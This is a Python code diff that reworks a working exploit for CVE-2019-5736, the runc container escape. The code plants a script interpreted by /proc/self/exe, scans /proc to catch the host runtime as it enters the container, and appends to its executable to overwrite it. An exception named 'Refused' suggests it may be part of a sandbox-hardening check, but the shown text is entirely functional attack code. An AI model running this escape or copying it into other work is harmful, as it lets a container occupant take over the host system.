@@ -1,9 +1,12 @@
-# CVE-2019-5736: the program of the host that enters the sandbox is caught while it stands in for a script that names
-# /proc/self/exe as its interpreter, and is written to once nobody executes it any more.
-deadline = time.monotonic() + 10
+# CVE-2019-5736: the program of the host that enters the sandbox is asked to execute a script that names /proc/self/exe as
+# its interpreter, so that it executes itself. One that changes its root and executes what it is given does so again and
+# again: it stands still to be caught. Once it is, the script goes, the program ends, and is written to.
+CATCH_LIMIT = WRITE_LIMIT = 10
+SCRIPT = "/tmp/entry"
 
 
 def append(link):
+    deadline = time.monotonic() + WRITE_LIMIT
     while time.monotonic() < deadline:
         try:
             file = os.open(link, os.O_WRONLY | os.O_APPEND)
@@ -16,24 +19,33 @@ def append(link):
     raise Refused("it stays in use")
 
 
-def catch_and_overwrite():
-    with open("/tmp/entry", "w") as script:
-        script.write("#!/proc/self/exe\n")
-    os.chmod("/tmp/entry", 0o755)
+def catch():
+    deadline = time.monotonic() + CATCH_LIMIT
     failures = {}
     while time.monotonic() < deadline:
-        # The newest first: it is there for a moment only.
+        # The newest first: most programs that enter are there for a moment only.
         for process in sorted(map(int, filter(str.isdigit, os.listdir("/proc"))), reverse=True):
             link = f"/proc/{process}/exe"
             try:
                 if process == os.getpid() or not is_entry(os.readlink(link)):
                     continue
-                file = os.open(link, os.O_RDONLY)
+                return os.open(link, os.O_RDONLY)
             except OSError as error:
                 failures[str(error.strerror)] = link
-                continue
-            return append(f"/proc/self/fd/{file}")
     raise Refused(f"no program of the host was caught: {failures}")
+
+
+def catch_and_overwrite():
+    with open(f"{SCRIPT}.new", "w") as script:
+        script.write("#!/proc/self/exe /\n")
+    os.chmod(f"{SCRIPT}.new", 0o755)
+    os.rename(f"{SCRIPT}.new", SCRIPT)
+    try:
+        file = catch()
+    finally:
+        # This also says that nobody need enter any more.
+        os.remove(SCRIPT)
+    return append(f"/proc/self/fd/{file}")
 
 
 def is_entry(target):
